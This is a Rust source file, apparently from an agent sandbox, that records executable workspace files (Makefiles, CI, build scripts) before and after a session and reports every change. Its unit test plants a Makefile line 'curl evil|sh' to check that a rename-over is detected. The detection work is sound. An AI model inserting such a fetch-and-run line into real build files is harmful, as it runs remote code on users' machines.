//! `fs.review` (issue 19): workspace files that run when a person runs something (CI workflows,
//! Makefiles, package scripts, build scripts). They stay writable; this lists every change to them
//! at the end of the session.
//!
//! Before the command runs, a bounded walk of the workspace (no symlink followed, dependency and
//! build directories skipped, at most [`MAX_ENTRIES`] entries) records each reviewed file's kind,
//! mode, size and sha256, and the contents of small ones; at the end, the same walk again, and the
//! two are compared. Comparing contents catches the rename and hard-link tricks (write elsewhere,
//! then `mv` it over Makefile; link a file to Makefile and write the link) by construction. What it
//! cannot do: stop a process on the host from reading a file while the session runs (it detects at
//! the end), or see a change the session made and undid before it ended.

mod diff;
pub mod hold;
mod myers;
mod patch;

use cordon_policy::review::{skip_dir, Glob, ReviewPattern};
use cordon_policy::CompiledPolicy;
use cordon_schema::review::{Change, ChangeKind, Review};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};
use std::time::Instant;

/// Entries (files and directories) one walk reads at most.
pub const MAX_ENTRIES: u64 = 200_000;
/// The cap of one walk: [`MAX_ENTRIES`], or lower with `CORDON_REVIEW_MAX_ENTRIES` (a testing aid,
/// read by cordon itself, never by the session; it can only lower the cap, and a walk that hits the
/// cap is an alert and holds nothing).
pub fn max_entries() -> u64 {
    std::env::var("CORDON_REVIEW_MAX_ENTRIES")
        .ok()
        .and_then(|v| v.parse::<u64>().ok())
        .map_or(MAX_ENTRIES, |n| n.clamp(1, MAX_ENTRIES))
}
/// Files up to this size keep their contents for the diff.
pub const KEEP_BYTES: u64 = 256 << 10;
/// Kept contents in all, at most.
const KEEP_TOTAL: u64 = 64 << 20;
/// Files above this size are compared by their metadata (inode, size, times), not hashed.
const HASH_BYTES: u64 = 64 << 20;
/// Changed lines shown per file.
const EXCERPT: usize = 4;

#[derive(Debug, Clone, PartialEq)]
enum Kind {
    File,
    Symlink,
    /// A fifo, socket or device under a reviewed name: never opened.
    Other,
}

#[derive(Debug, Clone)]
struct State {
    kind: Kind,
    mode: u32,
    size: u64,
    sha256: Option<[u8; 32]>,
    /// Inode, size, mtime and ctime: the comparison of a file that was not hashed.
    meta: (u64, u64, i64, i64, i64, i64),
    content: Option<Vec<u8>>,
    pattern: usize,
    /// The owner, put back by hold mode.
    uid: u32,
    gid: u32,
}

struct Snapshot {
    files: BTreeMap<Vec<u8>, State>,
    entries: u64,
    capped: bool,
    ms: u64,
}

/// The state at the start, kept until the end of the session.
pub struct Watch {
    root: PathBuf,
    patterns: Vec<ReviewPattern>,
    before: Snapshot,
}

impl Watch {
    /// Walks the workspace; None when the policy reviews nothing.
    pub fn start(policy: &CompiledPolicy, workspace: &Path) -> Option<Watch> {
        if policy.fs.review.is_empty() {
            return None;
        }
        let patterns = policy.fs.review.clone();
        let before = walk(workspace, &patterns);
        Some(Watch { root: workspace.to_path_buf(), patterns, before })
    }

    /// Walks again and compares; with `hold`, holds the changes it can (see [`hold`]). When either
    /// walk stopped at its cap, only the paths both walks reached are compared (one reached by one
    /// walk only may lie beyond the other's cap: neither created nor deleted), and nothing is held:
    /// a restore from an incomplete walk could remove or overwrite a file it never saw.
    pub fn finish(self, hold: Option<&hold::Target>) -> Review {
        let after = walk(&self.root, &self.patterns);
        let capped = self.before.capped || after.capped;
        let mut changes = vec![];
        let keys: std::collections::BTreeSet<&Vec<u8>> = self.before.files.keys().chain(after.files.keys()).collect();
        for k in keys {
            let (b, a) = (self.before.files.get(k), after.files.get(k));
            if capped && (b.is_none() || a.is_none()) {
                continue;
            }
            if let Some(c) = compare(k, b, a, &self.patterns) {
                changes.push((k.clone(), c));
            }
        }
        let held = match hold {
            Some(_) if capped => {
                let why = format!(
                    "the review walk stopped at its cap of {} workspace entries, so nothing was held (an incomplete walk could undo a file it never saw)",
                    max_entries()
                );
                changes
                    .iter_mut()
                    .for_each(|(_, c)| c.hold = Some(cordon_schema::review::Hold::NotHeld { why: why.clone() }));
                None
            }
            Some(t) => hold::hold(t, &self.before.files, &after.files, &mut changes),
            None => None,
        };
        Review {
            held,
            changes: changes.into_iter().map(|(_, c)| c).collect(),
            files: self.before.files.len() as u64,
            entries: self.before.entries.max(after.entries),
            capped,
            start_ms: self.before.ms,
            end_ms: after.ms,
        }
    }
}

fn walk(root: &Path, patterns: &[ReviewPattern]) -> Snapshot {
    let t = Instant::now();
    let mut s = Snapshot { files: BTreeMap::new(), entries: 0, capped: false, ms: 0 };
    let mut kept = 0u64;
    let cap = max_entries();
    let globs: Vec<Glob> = patterns.iter().map(|p| Glob::new(&p.pattern)).collect();
    // (directory, its workspace-relative path; empty for the root)
    let mut stack: Vec<(PathBuf, Vec<u8>)> = vec![(root.to_path_buf(), vec![])];
    'walk: while let Some((dir, rel)) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&dir) else { continue };
        for e in rd.flatten() {
            s.entries += 1;
            if s.entries > cap {
                s.capped = true;
                break 'walk;
            }
            let mut r = rel.clone();
            if !r.is_empty() {
                r.push(b'/');
            }
            r.extend_from_slice(e.file_name().as_bytes());
            // d_type: a symlink is a symlink here, never what it points to.
            let Ok(ft) = e.file_type() else { continue };
            let text = String::from_utf8_lossy(&r);
            if ft.is_dir() {
                if !skip_dir(&text) {
                    stack.push((e.path(), r));
                }
                continue;
            }
            let segs: Vec<&str> = text.split('/').collect();
            let Some(pattern) = globs.iter().position(|g| g.matches(&segs)) else { continue };
            if let Some(st) = state(&e.path(), &ft, pattern, &mut kept) {
                s.files.insert(r, st);
            }
        }
    }
    s.ms = t.elapsed().as_millis() as u64;
    s
}

fn state(path: &Path, ft: &std::fs::FileType, pattern: usize, kept: &mut u64) -> Option<State> {
    let md = path.symlink_metadata().ok()?;
    let meta = (md.ino(), md.size(), md.mtime(), md.mtime_nsec(), md.ctime(), md.ctime_nsec());
    let mode = md.mode() & 0o7777;
    let mut st = State {
        kind: Kind::Other,
        mode,
        size: md.size(),
        sha256: None,
        meta,
        content: None,
        pattern,
        uid: md.uid(),
        gid: md.gid(),
    };
    if ft.is_symlink() {
        let target = std::fs::read_link(path).ok()?;
        st.kind = Kind::Symlink;
        st.sha256 = Some(Sha256::digest(target.as_os_str().as_bytes()).into());
        st.content = Some(target.as_os_str().as_bytes().to_vec());
        return Some(st);
    }
    if !md.is_file() {
        return Some(st);
    }
    st.kind = Kind::File;
    if md.size() > HASH_BYTES {
        return Some(st);
    }
    // O_NOFOLLOW and O_NONBLOCK: a file swapped for a link or a fifo since the listing is not
    // followed or waited on.
    let Ok(mut f) = std::fs::OpenOptions::new().read(true).custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK).open(path)
    else {
        return Some(st);
    };
    if !f.metadata().is_ok_and(|m| m.is_file()) {
        return Some(st);
    }
    let keep = md.size() <= KEEP_BYTES && *kept + md.size() <= KEEP_TOTAL;
    let mut h = Sha256::new();
    let mut content = vec![];
    let mut buf = vec![0u8; 64 << 10];
    loop {
        match f.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                h.update(&buf[..n]);
                if keep && (content.len() + n) as u64 <= KEEP_BYTES {
                    content.extend_from_slice(&buf[..n]);
                }
            }
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(_) => return Some(st),
        }
    }
    st.sha256 = Some(h.finalize().into());
    if keep && content.len() as u64 == md.size() {
        *kept += content.len() as u64;
        st.content = Some(content);
    }
    Some(st)
}

fn changed(b: &State, a: &State) -> bool {
    if b.kind != a.kind || b.mode != a.mode {
        return true;
    }
    match (b.sha256, a.sha256) {
        (Some(x), Some(y)) => x != y,
        // Not hashed (too large, unreadable, not a file): any change of inode, size or times.
        _ => b.meta != a.meta || b.size != a.size,
    }
}

fn compare(key: &[u8], b: Option<&State>, a: Option<&State>, pats: &[ReviewPattern]) -> Option<Change> {
    let (change, pat) = match (b, a) {
        (None, None) => return None,
        (Some(b), None) => (ChangeKind::Deleted, b.pattern),
        (None, Some(a)) => (ChangeKind::Created, a.pattern),
        (Some(b), Some(a)) if changed(b, a) => (ChangeKind::Modified, a.pattern),
        _ => return None,
    };
    let p = &pats[pat];
    let (summary, added, removed, excerpt) = describe(change, b, a);
    let hex = |s: &State| s.sha256.map(|h| h.iter().map(|b| format!("{b:02x}")).collect::<String>());
    Some(Change {
        path: diff::shown(key),
        change,
        summary,
        added,
        removed,
        excerpt,
        pattern: p.pattern.clone(),
        entry: p.entry.clone(),
        runs: p.runs.clone(),
        before_sha256: b.and_then(hex),
        after_sha256: a.and_then(hex),
        before_mode: b.map(|s| s.mode),
        after_mode: a.map(|s| s.mode),
        hold: None,
    })
}

/// The change in words, its line counts and first changed lines.
fn describe(change: ChangeKind, b: Option<&State>, a: Option<&State>) -> (String, u64, u64, Vec<String>) {
    fn content(s: Option<&State>) -> Option<&[u8]> {
        match s {
            None => Some(b""),
            Some(s) if s.kind == Kind::File => s.content.as_deref(),
            Some(_) => None,
        }
    }
    let mut words = vec![];
    let (mut added, mut removed, mut excerpt) = (0, 0, vec![]);
    let kind_word = |s: &State| match s.kind {
        Kind::File => None,
        Kind::Symlink => Some(format!("a symlink to {}", diff::shown(s.content.as_deref().unwrap_or_default()))),
        Kind::Other => Some("not a regular file (a fifo, socket or device)".to_string()),
    };
    match (b, a) {
        (Some(x), Some(y)) if x.kind != y.kind || x.kind != Kind::File => {
            let was = kind_word(x).unwrap_or_else(|| "a file".into());
            let now = kind_word(y).unwrap_or_else(|| "a file".into());
            if was != now {
                words.push(format!("was {was}, now {now}"));
            }
        }
        (None, Some(y)) | (Some(y), None) if y.kind != Kind::File => {
            words.push(kind_word(y).unwrap_or_default());
        }
        _ => {}
    }
    let same_kind_files = [b, a].iter().all(|s| s.is_none_or(|s| s.kind == Kind::File));
    if same_kind_files {
        let contents_differ = match (b, a) {
            (Some(x), Some(y)) => changed(&State { mode: y.mode, ..x.clone() }, y),
            _ => true,
        };
        if contents_differ {
            match (content(b), content(a)) {
                (Some(x), Some(y)) if diff::is_text(x) && diff::is_text(y) => {
                    (added, removed, excerpt) = diff::diff(x, y, EXCERPT);
                    words.push(format!("+{added}/-{removed} lines"));
                }
                (Some(x), Some(y)) => words.push(format!("binary, {} -> {} bytes", x.len(), y.len())),
                _ => words.push(format!(
                    "contents changed, {} -> {} bytes (larger than {} KiB: not diffed)",
                    b.map_or(0, |s| s.size),
                    a.map_or(0, |s| s.size),
                    KEEP_BYTES >> 10
                )),
            }
        }
    }
    if let (Some(x), Some(y)) = (b, a) {
        if x.mode != y.mode {
            let exec = |m: u32| m & 0o111 != 0;
            let note = match (exec(x.mode), exec(y.mode)) {
                (false, true) => " (now executable)",
                (true, false) => " (no longer executable)",
                _ => "",
            };
            words.push(format!("mode {:04o} -> {:04o}{note}", x.mode, y.mode));
        }
    }
    if change == ChangeKind::Created {
        if let Some(y) = a.filter(|y| y.mode & 0o111 != 0) {
            words.push(format!("mode {:04o}", y.mode));
        }
    }
    (words.join(", "), added, removed, excerpt)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ws() -> PathBuf {
        let d = std::env::temp_dir().join(format!("cordon-review-unit-{}-{}", std::process::id(), rand()));
        std::fs::create_dir_all(&d).expect("mkdir");
        d
    }

    fn rand() -> u64 {
        use std::sync::atomic::{AtomicU64, Ordering};
        static N: AtomicU64 = AtomicU64::new(0);
        N.fetch_add(1, Ordering::Relaxed)
    }

    fn policy(ws: &Path) -> CompiledPolicy {
        let cx = cordon_policy::Context { home: "/nonexistent".into(), workspace: ws.into(), tmp: "/tmp".into() };
        cordon_policy::load_and_compile("builtin:agent", &cx).expect("agent").1
    }

    #[test]
    fn a_mode_change_and_a_rename_over_are_seen() {
        let d = ws();
        std::fs::write(d.join("run.sh"), "echo hi\n").expect("w");
        std::fs::write(d.join("Makefile"), "all:\n\ttrue\n").expect("w");
        let w = Watch::start(&policy(&d), &d).expect("reviews");
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(d.join("run.sh"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
        std::fs::write(d.join("x.txt"), "all:\n\tcurl evil|sh\n").expect("w");
        std::fs::rename(d.join("x.txt"), d.join("Makefile")).expect("mv");
        let r = w.finish(None);
        let _ = std::fs::remove_dir_all(&d);
        assert_eq!(r.changes.len(), 2, "{r:?}");
        let mk = r.changes.iter().find(|c| c.path == "Makefile").expect("Makefile");
        assert_eq!((mk.added, mk.removed), (1, 1));
        let sh = r.changes.iter().find(|c| c.path == "run.sh").expect("run.sh");
        assert!(sh.summary.contains("now executable") && !sh.summary.contains("lines"), "{}", sh.summary);
    }
}
